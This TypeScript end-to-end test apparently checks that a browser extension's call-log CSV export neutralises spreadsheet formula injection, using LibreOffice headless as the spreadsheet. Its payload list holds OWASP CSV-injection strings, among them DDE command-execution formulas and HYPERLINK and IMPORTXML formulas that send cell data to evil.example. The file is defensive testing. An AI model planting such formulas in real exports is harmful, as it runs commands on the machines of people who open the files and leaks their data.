/**
 * Promise 19 in a real spreadsheet: calls carrying OWASP CSV-injection payloads in every free-text field are imported
 * through the options page, the call log CSV is downloaded as a manager would, and LibreOffice (headless) opens it
 * with formula evaluation on and saves it as .xlsx. The sheet XML must hold no formula (<f>) and every text cell
 * must read exactly as the exported field. A control file with one unescaped `=1+1` must come out as a formula, so
 * the check cannot pass by LibreOffice simply never evaluating anything.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallRecord } from '../../src/shared/call-record';
import { exportCallsJson, parseCallsExport } from '../../src/shared/report/json-export';
import { BOB, goal, makeCall } from '../../src/shared/report/make-call';
import { parseCsv } from '../../src/shared/report/to-csv';
import { launchChromium, type ExtensionBrowser } from './harness/chromium';

const SOFFICE_MISSING = 'LibreOffice is not installed: `apt-get install -y --no-install-recommends libreoffice-calc-nogui` (.ci/run does this).';

// OWASP CSV injection payloads, with the variants a per-cell check misses: leading spaces/NBSP, a later line.
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '=DDE("cmd";"/C calc";"!A0")',
  '  =1+1',
  '\u00a0=1+1',
  'first line\n=1+1',
  'first line\r\n@SUM(1,1)',
];
// Leading TAB and CR are triggers too; only the long free-text fields keep them (the goal's text is trimmed).
const CONTROL_PAYLOADS = ['\t=1+1', '\r=1+1'];

function call(n: number, text: string, learned: string): CallRecord {
  const at = Date.UTC(2026, 10, 16, 9) + n * 60_000;
  return makeCall({
    n,
    rep: BOB,
    createdAt: at,
    updatedAt: at,
    context: { person: { name: text }, company: text },
    goal: { ...goal('learn'), outcome: text, successTest: text },
    dial: { status: 'dialed', at },
    outcome: { reached: 'connected', goalMet: 'yes', questionsAsked: [text], learned, nextStep: { text, due: at + 86_400_000 }, coaching: { note: text }, loggedAt: at },
  });
}

const calls = [
  ...PAYLOADS.map((text, i) => call(i + 1, text, text)),
  ...CONTROL_PAYLOADS.map((text, i) => call(PAYLOADS.length + i + 1, `plain ${i}`, text)),
];

let browser: ExtensionBrowser;
let work: string;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'precall-sheet-'));
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

function hasSoffice(): boolean {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore', timeout: 20_000 });
    return true;
  } catch {
    return false;
  }
}

/** LibreOffice opens each CSV as UTF-8 with formula evaluation on (the riskiest way), and saves it as .xlsx. */
function toXlsx(csvFiles: string[]): void {
  // Filter options: comma, double quote, UTF-8, from line 1, ..., token 13 "evaluate formulas" = true.
  const csvFilter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
  execFileSync(
    'soffice',
    [`-env:UserInstallation=${pathToFileURL(join(work, 'lo-profile')).href}`, '--headless', `--infilter=${csvFilter}`, '--convert-to', 'xlsx', '--outdir', work, ...csvFiles],
    { stdio: 'ignore', timeout: 30_000, env: { ...process.env, HOME: work } },
  );
}

const XML_ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
const unescapeXml = (text: string) =>
  text.replace(/&(#x[0-9a-f]+|#\d+|\w+);/gi, (_, e: string) =>
    e.startsWith('#x') || e.startsWith('#X') ? String.fromCodePoint(parseInt(e.slice(2), 16)) : e.startsWith('#') ? String.fromCodePoint(Number(e.slice(1))) : (XML_ENTITIES[e] ?? `&${e};`));

interface Sheet {
  formulas: number;
  /** Text of each string cell by reference ("B2"); number cells are left out. */
  text: Map<string, string>;
}

/** The first sheet of an .xlsx: how many cells hold a formula, and the text of each string cell. */
function readXlsx(path: string): Sheet {
  const zip = unzipSync(new Uint8Array(readFileSync(path)));
  const sheetXml = strFromU8(zip['xl/worksheets/sheet1.xml']!);
  const shared = [...strFromU8(zip['xl/sharedStrings.xml'] ?? new Uint8Array()).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((si) =>
    [...si[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => unescapeXml(t[1]!)).join(''),
  );
  const text = new Map<string, string>();
  for (const cell of sheetXml.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
    const [, ref, attributes, body = ''] = cell;
    const value = /<v>([\s\S]*?)<\/v>/.exec(body)?.[1];
    if (/t="s"/.test(attributes!) && value !== undefined) text.set(ref!, shared[Number(value)]!);
    else if (/t="inlineStr"/.test(attributes!)) text.set(ref!, unescapeXml(/<t[^>]*>([\s\S]*?)<\/t>/.exec(body)?.[1] ?? ''));
  }
  return { formulas: (sheetXml.match(/<f[\s>]/g) ?? []).length, text };
}

const column = (index: number) => String.fromCharCode(65 + index); // the call log has fewer than 26 columns
// The CSV carries CRLF inside a multi-line cell; a spreadsheet keeps one line break per line.
const lines = (text: string) => text.replace(/\r\n?/g, '\n');

describe('the call log CSV in LibreOffice (promise 19)', () => {
  it('runs 0 formulas: every payload cell is text and reads as exported; the unescaped control does run', async () => {
    if (!hasSoffice()) throw new Error(SOFFICE_MISSING);
    // What the store will hold once imported: the file parsed exactly as the options page parses it.
    const file = exportCallsJson(calls, BOB, Date.UTC(2026, 10, 17));
    const parsed = parseCallsExport(new TextEncoder().encode(file), 'payloads.json');
    if (!parsed.ok) throw new Error(parsed.error);
    expect(parsed.file.calls).toHaveLength(calls.length);

    const page = await browser.context.newPage();
    await page.goto(`chrome-extension://${browser.extensionId}/options.html`);
    await page.waitForSelector('[data-testid="dashboard-ready"]');
    await page.setInputFiles('[data-testid="team-files"]', [{ name: 'payloads.json', mimeType: 'application/json', buffer: Buffer.from(file) }]);
    await expect.poll(() => page.textContent('[data-testid="import-result"]').catch(() => ''), { timeout: 10_000 }).toContain(`${calls.length} new`);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="export-call-log"]')]);
    const csvPath = join(work, 'call-log.csv');
    writeFileSync(csvPath, readFileSync(await download.path()));
    const controlPath = join(work, 'control.csv');
    writeFileSync(controlPath, '\uFEFFcontact,goal\r\nDana,=1+1\r\n');

    toXlsx([csvPath, controlPath]);
    expect(readXlsx(join(work, 'control.xlsx')).formulas).toBe(1);
    const sheet = readXlsx(join(work, 'call-log.xlsx'));
    expect(sheet.formulas).toBe(0);

    // Every text cell of the sheet equals the CSV field LibreOffice read, which is the stored text made formula-safe.
    const rows = parseCsv(readFileSync(csvPath, 'utf8'));
    const header = rows[0]!;
    const dateColumns = new Set(['date', 'due'].map((name) => header.indexOf(name))); // read as dates by design
    let checked = 0;
    rows.forEach((row, r) =>
      row.forEach((field, c) => {
        if (dateColumns.has(c) || field === '') return;
        expect(sheet.text.get(`${column(c)}${r + 1}`), `${column(c)}${r + 1}`).toBe(lines(field));
        checked += 1;
      }),
    );
    // Each payload reached the sheet as text, as the rule writes it: a ' before every line that could start a formula.
    const goalColumn = column(header.indexOf('goal'));
    const learnedColumn = column(header.indexOf('learned'));
    const sheetGoals = new Set([...sheet.text].filter(([ref]) => ref.startsWith(goalColumn)).map(([, text]) => text));
    const sheetLearned = new Set([...sheet.text].filter(([ref]) => ref.startsWith(learnedColumn)).map(([, text]) => text));
    const guarded = (text: string) => lines(text).split('\n').map((line) => (/^[^\S\t\r\n]*[=+\-@\t\r]|^$/.test(line) ? `'${line}` : line)).join('\n');
    // The goal's text is stored trimmed (schema); learned is stored as typed, leading spaces, TAB and CR included.
    for (const stored of parsed.file.calls) {
      expect(sheetGoals.has(guarded(stored.goal!.outcome)), JSON.stringify(stored.goal!.outcome)).toBe(true);
      expect(sheetLearned.has(guarded(stored.outcome!.learned)), JSON.stringify(stored.outcome!.learned)).toBe(true);
    }
    expect(parsed.file.calls.map((c) => c.outcome!.learned)).toEqual([...PAYLOADS, ...CONTROL_PAYLOADS]);
    expect(checked).toBeGreaterThan(calls.length * 10);
    await page.close();
  });
});
